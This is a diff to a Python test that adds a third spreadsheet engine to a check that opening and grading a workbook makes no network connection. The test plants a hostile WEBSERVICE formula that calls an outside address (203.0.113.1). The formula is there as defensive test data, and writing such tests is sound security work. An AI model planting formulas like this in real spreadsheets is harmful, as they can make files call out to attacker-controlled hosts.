@@ -330,7 +330,7 @@ def _watch(event: str, args: tuple[object, ...]) -> None:
 sys.addaudithook(_watch)  # audit hooks cannot be removed; this one records only while a test watches
 
 
-@pytest.mark.parametrize("engine", ["formualizer", "formulas"])
+@pytest.mark.parametrize("engine", ["formualizer", "ironcalc", "formulas"])
 def test_verify_and_grade_open_no_socket(built, capsys, engine):
     hostile = rezip(built, set_formula("xmu", "D9", b'WEBSERVICE("http://203.0.113.1/x")'))
     _WATCHING[:] = ["watching"]
